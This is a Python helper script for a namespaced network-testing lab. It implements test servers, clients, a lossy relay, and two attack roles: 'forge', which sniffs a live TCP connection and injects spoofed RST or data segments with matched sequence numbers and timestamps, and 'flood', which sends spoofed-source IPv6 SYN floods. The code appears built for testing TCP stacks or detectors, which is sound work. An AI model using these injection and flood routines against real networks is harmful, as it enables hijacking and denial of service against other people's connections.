#!/usr/bin/env python3
"""The servers, clients, bad cables and forgers of makeAttacks.sh. Each runs inside a namespace of the laboratory.

Sockets are the kernel's own (a real TCP stack); only "forge" and "cable" write frames themselves. Nothing here needs
more than Python's standard library. Forgers log every frame they send as a line of JSON: the ground truth.

  attackHost.py ROLE --help
"""
import argparse
import asyncio
import heapq
import json
import os
import random
import select
import socket
import struct
import sys
import time

ANSWER_BYTES = 120
ASK_BYTES = 40
TCP_REPAIR, TCP_REPAIR_QUEUE, TCP_QUEUE_SEQ = 19, 20, 21
SEND_QUEUE = 2
REPAIR_OFF_SILENTLY = -1
MODULUS = 1 << 32


# --- frames ----------------------------------------------------------------------------------------------------


def sum16(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return total


class Segment:
    """A TCP segment read from an Ethernet frame; None from parse() when it is anything else."""

    @classmethod
    def parse(cls, frame):
        self = cls()
        self.mac_source, self.mac_target = frame[6:12], frame[:6]
        if len(frame) >= 54 and frame[12:14] == b"\x08\x00" and frame[23] == 6:
            ip_bytes = (frame[14] & 15) * 4
            total = struct.unpack("!H", frame[16:18])[0]
            self.ttl = frame[22]
            self.source, self.target = socket.inet_ntoa(frame[26:30]), socket.inet_ntoa(frame[30:34])
            tcp = frame[14 + ip_bytes : 14 + total]
        elif len(frame) >= 74 and frame[12:14] == b"\x86\xdd" and frame[20] == 6:
            total = struct.unpack("!H", frame[18:20])[0]
            self.ttl = frame[21]
            self.source, self.target = (socket.inet_ntop(socket.AF_INET6, frame[at : at + 16]) for at in (22, 38))
            tcp = frame[54 : 54 + total]
        else:
            return None
        self.sport, self.dport, self.seq, self.ack, offset, self.flags, self.window = struct.unpack("!HHIIBBH", tcp[:16])
        header = (offset >> 4) * 4
        self.options, self.payload = tcp[20:header], tcp[header:]
        return self

    def timestamps(self):
        at = 0
        while at < len(self.options):
            kind = self.options[at]
            if kind == 0:
                break
            if kind == 1:
                at += 1
                continue
            if kind == 8:
                return struct.unpack("!II", self.options[at + 2 : at + 10])
            at += max(2, self.options[at + 1])
        return None


def family_of(address):
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def build(mac_source, mac_target, source, target, sport, dport, seq, ack, flags, window, ttl, ip_id, options=b"", payload=b""):
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq % MODULUS, ack % MODULUS, (5 + len(options) // 4) << 4, flags, window, 0, 0)
    tcp += options + payload
    a, b = (socket.inet_pton(family_of(source), address) for address in (source, target))
    check = ~sum16(a + b + struct.pack("!BBH", 0, 6, len(tcp)) + tcp) & 0xFFFF
    tcp = tcp[:16] + struct.pack("!H", check) + tcp[18:]
    if len(a) == 16:
        # The flow label stands for the identification that IPv6 does not have.
        ip = struct.pack("!IHBB", 6 << 28 | ip_id, len(tcp), 6, ttl) + a + b
        return mac_target + mac_source + b"\x86\xdd" + ip + tcp
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), ip_id, 0x4000, ttl, 6, 0, a, b)
    ip = ip[:10] + struct.pack("!H", ~sum16(ip) & 0xFFFF) + ip[12:]
    return mac_target + mac_source + b"\x08\x00" + ip + tcp


def open_packet_socket(device):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    sock.bind((device, 0))
    return sock


# --- the bad cable ---------------------------------------------------------------------------------------------


def cable(arguments):
    """Joins two devices; loses, doubles, holds back or delays TCP frames by a seeded die, both ways alike."""
    devices = {arguments.near: open_packet_socket(arguments.near), arguments.far: open_packet_socket(arguments.far)}
    other = {arguments.near: arguments.far, arguments.far: arguments.near}
    ways = {arguments.near: "from-host", arguments.far: "to-host"}
    dice = {name: random.Random(f"{arguments.seed} {way}") for name, way in ways.items()}
    counts = {name: 0 for name in devices}
    waiting, turn, free = [], 0, {name: 0.0 for name in devices}
    log = open(arguments.log, "a", buffering=1)
    while True:
        now = time.monotonic()
        while waiting and waiting[0][0] <= now:
            _, _, name, frame = heapq.heappop(waiting)
            devices[name].send(frame)
        ready, _, _ = select.select(list(devices.values()), [], [], max(0, waiting[0][0] - now) if waiting else None)
        for name, sock in devices.items():
            if sock not in ready:
                continue
            frame, address = sock.recvfrom(65536)
            if address[2] == socket.PACKET_OUTGOING:
                continue
            out, now = other[name], time.monotonic()
            segment = Segment.parse(frame)
            fate, pause, copies = "pass", 0.0, 1
            if segment:
                way, die = ways[name], dice[name]
                if arguments.only in ("both", way):
                    pause = arguments.delay / 1000 + die.random() * arguments.jitter / 1000
                    roll = die.random()
                    if segment.payload:
                        counts[name] += 1
                    # Handshakes are late but not lost: what is tested is the stream, not whether it opens.
                    if segment.flags & 2:
                        fate = "pass"
                    elif counts[name] in arguments.lose_data and segment.payload:
                        fate, copies = "lost", 0
                    elif roll < arguments.loss:
                        fate, copies = "lost", 0
                    elif roll < arguments.loss + arguments.double:
                        fate, copies = "doubled", 2
                    elif roll < arguments.loss + arguments.double + arguments.hold and segment.payload:
                        fate, pause = "held", pause + arguments.hold_ms / 1000
                if fate != "pass":
                    log.write(json.dumps({"event": fate, "way": way, "source": segment.source, "sport": segment.sport,
                                          "target": segment.target, "dport": segment.dport, "seq": segment.seq,
                                          "ack": segment.ack, "len": len(segment.payload)}) + "\n")
            if fate in ("pass", "doubled"):
                # A frame never overtakes another one unless that one was held back, or the cable jitters on purpose.
                leave = now + pause if arguments.overtake else max(now + pause, free[name])
                free[name] = leave
            else:
                leave = now + pause
            for copy in range(copies):
                turn += 1
                heapq.heappush(waiting, (leave + copy * 0.0004, turn, out, frame))


# --- the forger ------------------------------------------------------------------------------------------------


def forge(arguments):
    """Overhears one connection (the cable is a hub) and sends forged segments as one of its two ends.

    Fires at the given data segment of the client. A reset's number is the next one the forged end would use plus
    an offset; forged data starts at the number the client's segment acknowledges, plus an offset."""
    sock = open_packet_socket("eth0")
    own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    log = open(arguments.log, "a", buffering=1)
    next_seq, macs, stamps, windows, seen = {}, {}, {}, {}, 0
    end = time.monotonic() + arguments.timeout

    def hear_clock(way, segment):
        if stamp := segment.timestamps():
            stamps[way] = (stamp[0], time.monotonic())

    while True:
        sock.settimeout(max(0.01, end - time.monotonic()))
        frame, address = sock.recvfrom(65536)
        segment = Segment.parse(frame)
        if address[2] == socket.PACKET_OUTGOING or not segment or arguments.port not in (segment.sport, segment.dport):
            continue
        way = "client" if segment.dport == arguments.port else "server"
        next_seq[way] = (segment.seq + len(segment.payload) + bool(segment.flags & 3)) % MODULUS
        macs[way], windows[way] = segment.mac_source, segment.window
        hear_clock(way, segment)
        if way == "client" and segment.payload:
            seen += 1
            if seen == arguments.at:
                break
    client, server = (segment.source, segment.sport), (segment.target, segment.dport)
    overheard = time.monotonic()
    if arguments.after:
        # Go on listening, so that numbers are those of the moment of firing.
        while (left := overheard + arguments.after / 1000 - time.monotonic()) > 0:
            sock.settimeout(left)
            try:
                later = Segment.parse(sock.recv(65536))
            except (TimeoutError, BlockingIOError):
                break
            if later and arguments.port in (later.sport, later.dport):
                way = "client" if later.dport == arguments.port else "server"
                if later.payload or later.flags & 3:
                    next_seq[way] = (later.seq + len(later.payload) + bool(later.flags & 3)) % MODULUS
                hear_clock(way, later)
    forged = arguments.forged
    source, target = (client, server) if forged == "client" else (server, client)
    victim = "server" if forged == "client" else "client"
    base = next_seq[forged]
    if arguments.what == "data" and not arguments.after:
        base = segment.ack if forged == "server" else next_seq["client"]
    options = b""
    if arguments.stamps and forged in stamps and victim in stamps:
        # What the forged end would say: its own clock (a tick per millisecond) as last overheard, echoing the victim's.
        # A clock that stands still is older than what the victim heard last: its stack throws the segment away (PAWS).
        ticks, heard = stamps[forged]
        elapsed = 0 if arguments.stale else int((time.monotonic() - heard) * 1000)
        options = b"\1\1\x08\x0a" + struct.pack("!II", (ticks + elapsed) % MODULUS, stamps[victim][0])
    for number, offset in enumerate(arguments.offsets):
        payload, flags, ack, window = b"", 4, 0, 0
        if arguments.what == "data":
            text = f"FORGED {number} go to http://10.20.0.66/ ".encode()
            payload = (text * (arguments.bytes // len(text) + 1))[: arguments.bytes - 1] + b"\n"
            flags, ack, window = 0x18, next_seq[victim], windows.get(forged, 502)
        ip_id = (0x6600 + number) & 0xFFFF
        seq = (base + offset) % MODULUS
        sock.send(build(own, macs[victim], source[0], target[0], source[1], target[1], seq, ack, flags, window,
                        arguments.ttl, ip_id, options, payload))
        log.write(json.dumps({"event": "forged", "what": arguments.what, "as": forged, "source": source[0], "sport": source[1],
                              "target": target[0], "dport": target[1], "seq": seq, "offset": offset, "len": len(payload),
                              "ttl": arguments.ttl, "id": ip_id, "stamps": bool(options)}) + "\n")
        time.sleep(arguments.gap / 1000)


def flood(arguments):
    """Sends SYNs to one port from many addresses of one network, so many and no more: hping3 knows no IPv6."""
    sock = open_packet_socket("eth0")
    own = bytes.fromhex(open("/sys/class/net/eth0/address").read().strip().replace(":", ""))
    dice = random.Random(arguments.seed)
    for number in range(arguments.count):
        source = f"{arguments.network}{1 + number % arguments.sources:x}"
        sock.send(build(own, bytes.fromhex(arguments.mac.replace(":", "")), source, arguments.address, 1024 + dice.randrange(60000),
                        arguments.port, dice.randrange(MODULUS), 0, 2, 512, 64, number))
        time.sleep(arguments.gap / 1000)


# --- servers ---------------------------------------------------------------------------------------------------


async def run_servers(arguments):
    async def lines(reader, writer):
        """Every line is answered after a while; with --tick it also says something by itself."""
        said = 0

        async def tick():
            number = 0
            while True:
                await asyncio.sleep(arguments.tick)
                number += 1
                writer.write(f"tick {number:04d}\n".encode())
                await writer.drain()

        ticking = asyncio.ensure_future(tick()) if arguments.tick else None
        try:
            while await reader.readline():
                await asyncio.sleep(arguments.think / 1000)
                said += 1
                text = f"answer {said:04d} the news of today are as they were yesterday "
                writer.write((text * 9)[: arguments.answer - 1].encode() + b"\n")
                await writer.drain()
        except ConnectionError:
            writer.transport.abort()
        if ticking:
            ticking.cancel()
        writer.close()

    async def web(reader, writer):
        try:
            await reader.readuntil(b"\r\n\r\n")
            body = b"all is well\n"
            writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\nContent-Length: %d\r\nConnection: close\r\n\r\n" % len(body) + body)
            await writer.drain()
            writer.close()
        except (ConnectionError, asyncio.IncompleteReadError):
            writer.transport.abort()

    async def bulk(reader, writer):
        try:
            order = (await reader.readline()).split()
            count = int(order[1]) if len(order) == 2 else 0
            if order and order[0] == b"up":
                await reader.readexactly(count)
                writer.write(b"done\n")
            else:
                writer.write(random.Random(count).randbytes(count))
            await writer.drain()
            writer.close()
        except (ConnectionError, asyncio.IncompleteReadError):
            writer.transport.abort()

    async def swallow(reader, writer):
        """Reads slowly on purpose: the window closes, the sender probes it."""
        await asyncio.sleep(arguments.think / 1000)
        try:
            while await reader.read(65536):
                pass
        except ConnectionError:
            writer.transport.abort()
        writer.close()

    handler = {"lines": lines, "web": web, "bulk": bulk, "swallow": swallow}[arguments.kind]
    for address in arguments.addresses.split(","):
        for port in parse_ports(arguments.ports):
            sock = socket.socket(family_of(address))
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            if arguments.kind == "swallow":
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            sock.bind((address, port))
            sock.listen(512)
            await asyncio.start_server(handler, sock=sock, limit=4096 if arguments.kind == "swallow" else 1 << 16)
    await asyncio.sleep(3600)


# --- clients ---------------------------------------------------------------------------------------------------


def parse_ports(text):
    ports = []
    for part in str(text).split(","):
        first, _, last = part.partition("-")
        ports.extend(range(int(first), int(last or first) + 1))
    return ports


def connect(address, port, source=None, timeout=20.0):
    sock = socket.socket(family_of(address))
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(timeout)
    if source:
        sock.bind((source, 0))
    sock.connect((address, port))
    return sock


def read_all(sock):
    count = 0
    while part := sock.recv(65536):
        count += len(part)
    return count


def talk(arguments):
    """Asks line by line at a steady pace, whatever comes back, until its stack says the connection is gone."""
    sock = connect(arguments.address, arguments.port)
    if arguments.keepalive:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPIDLE, 1)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_KEEPINTVL, 1)
    sock.setblocking(False)
    try:
        for number in range(arguments.lines):
            ask = f"ask {number:04d} what is new in the laboratory?"
            sock.send(ask[: ASK_BYTES - 1].ljust(ASK_BYTES - 1, ".").encode() + b"\n")
            end = time.monotonic() + arguments.pause
            while (left := end - time.monotonic()) > 0:
                if select.select([sock], [], [], left)[0] and not sock.recv(65536):
                    print("closed by the other side")
                    return
        if arguments.burst:
            # Small writes without waiting, for the stack to pack anew when some are lost.
            for number in range(arguments.burst):
                sock.send(f"note {number:04d} {'-' * (20 + number * 7 % 60)}\n".encode())
                time.sleep(0.002)
            time.sleep(arguments.linger)
        elif arguments.linger:
            time.sleep(arguments.linger)
    except ConnectionError as error:
        print("gone:", error)
        return
    if arguments.abort:
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.close()


def transfer(arguments):
    """Sends or fetches bytes. --isn sets the first number by TCP_REPAIR, as checkpoint and restore tools do."""
    sock = socket.socket()
    sock.settimeout(40)
    if arguments.isn is not None:
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR_QUEUE, SEND_QUEUE)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_QUEUE_SEQ, struct.pack("I", arguments.isn))
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, REPAIR_OFF_SILENTLY)
    sock.connect((arguments.address, arguments.port))
    sock.sendall(f"{arguments.way} {arguments.bytes}\n".encode())
    if arguments.way == "up":
        sock.sendall(random.Random(arguments.bytes).randbytes(arguments.bytes))
    count = read_all(sock)
    sock.close()
    print(arguments.way, arguments.bytes, "bytes, answered with", count)


def visit(arguments):
    """A busy client: short web requests one after the other, over all ports in turn, every one answered."""
    ports, done = parse_ports(arguments.ports), 0
    for number in range(arguments.count):
        with connect(arguments.address, ports[number % len(ports)]) as sock:
            sock.sendall(f"GET /item/{number} HTTP/1.1\r\nHost: {arguments.address}\r\n\r\n".encode())
            done += read_all(sock) > 0
        time.sleep(arguments.pause)
    print(json.dumps({"event": "visited", "connections": arguments.count, "answered": done, "ports": len(ports)}))


def monitor(arguments):
    """Asks every service of every host whether it is there, round after round. Some are not."""
    up = down = 0
    for _ in range(arguments.rounds):
        for address in arguments.addresses.split(","):
            for port in parse_ports(arguments.ports):
                try:
                    connect(address, port, timeout=1.0).close()
                    up += 1
                except OSError:
                    down += 1
                time.sleep(arguments.pause)
    print(json.dumps({"event": "monitored", "up": up, "down": down}))


async def run_reconnect(arguments):
    """Everybody comes back at once: many clients with addresses of their own, some with several connections."""

    async def one(source, number):
        await asyncio.sleep(number % 37 * 0.013)
        reader, writer = await asyncio.open_connection(arguments.address, arguments.port, local_addr=(source, 0))
        writer.write(b"ask 0000 hello again\n")
        answer = await reader.readline()
        writer.close()
        return len(answer)

    first, last = (int(text) for text in arguments.sources.split("-"))
    sources = [f"10.20.0.{number}" for number in range(first, last + 1) for _ in range(arguments.each)]
    answers = await asyncio.gather(*(one(source, number) for number, source in enumerate(sources)), return_exceptions=True)
    good = sum(isinstance(answer, int) and answer > 0 for answer in answers)
    print(json.dumps({"event": "reconnected", "clients": len(sources), "answered": good}))


def vanish(arguments):
    """A server that forgets its connection without a word (as after a power cut): TCP_REPAIR closes silently."""
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind((arguments.address, arguments.port))
    listener.listen()
    end = time.monotonic() + arguments.timeout
    listener.settimeout(arguments.timeout)
    while time.monotonic() < end:
        sock, _ = listener.accept()
        for _ in range(arguments.lines):
            sock.recv(4096)
            sock.send(b"noted\n")
        time.sleep(0.1)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_REPAIR, 1)
        sock.close()


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    roles = parser.add_subparsers(dest="role", required=True)

    def role(name, run, *options):
        sub = roles.add_parser(name, help=(run.__doc__ or "").split("\n")[0])
        for flag, default in options:
            kind = str if default is None else type(default)
            if default is False:
                sub.add_argument(flag, action="store_true")
            elif flag == "--lose-data":
                sub.add_argument(flag, type=parse_ports, default=default)
            elif isinstance(default, list):
                sub.add_argument(flag, type=lambda text: [int(part) for part in text.split(",")], default=default)
            else:
                sub.add_argument(flag, type=kind, default=default)
        sub.set_defaults(run=run)
        return sub

    role("cable", cable, ("--near", "to-host"), ("--far", "eth0"), ("--seed", 1), ("--loss", 0.0), ("--double", 0.0), ("--hold", 0.0),
         ("--hold-ms", 4.0), ("--delay", 0.0), ("--jitter", 0.0), ("--overtake", False), ("--only", "both"), ("--lose-data", []),
         ("--log", "/dev/null"))
    role("forge", forge, ("--what", "reset"), ("--forged", "client"), ("--port", 2222), ("--at", 3), ("--after", 0), ("--offsets", [0]),
         ("--ttl", 64), ("--gap", 5.0), ("--bytes", ANSWER_BYTES), ("--stamps", False), ("--stale", False),
         ("--timeout", 20.0), ("--log", "/dev/null"))
    role("flood", flood, ("--address", "fd00:20::10"), ("--port", 80), ("--mac", "02:00:0a:14:00:0a"), ("--network", "fd00:66::"),
         ("--sources", 20), ("--count", 100), ("--gap", 4.0), ("--seed", 1))
    role("serve", lambda arguments: asyncio.run(run_servers(arguments)), ("--kind", "lines"), ("--addresses", "0.0.0.0"), ("--ports", "2222"),
         ("--think", 100), ("--answer", ANSWER_BYTES), ("--tick", 0.0))
    role("talk", talk, ("--address", "10.20.0.10"), ("--port", 2222), ("--lines", 8), ("--pause", 0.4), ("--keepalive", False),
         ("--burst", 0), ("--linger", 0.0), ("--abort", False))
    transfers = role("transfer", transfer, ("--address", "10.20.0.10"), ("--port", 5001), ("--way", "up"), ("--bytes", 100_000))
    transfers.add_argument("--isn", type=int)
    role("visit", visit, ("--address", "10.20.0.10"), ("--ports", "8001"), ("--count", 10), ("--pause", 0.01))
    role("monitor", monitor, ("--addresses", "10.20.0.10"), ("--ports", "80"), ("--rounds", 3), ("--pause", 0.02))
    role("reconnect", lambda arguments: asyncio.run(run_reconnect(arguments)), ("--address", "10.20.0.10"), ("--port", 2222),
         ("--sources", "101-110"), ("--each", 1))
    role("vanish", vanish, ("--address", "10.20.0.10"), ("--port", 2222), ("--lines", 3), ("--timeout", 30.0))
    arguments = parser.parse_args()
    try:
        arguments.run(arguments)
    except (BrokenPipeError, KeyboardInterrupt):
        os._exit(0)
    except OSError as error:
        sys.exit(f"{arguments.role}: {error}")


if __name__ == "__main__":
    main()
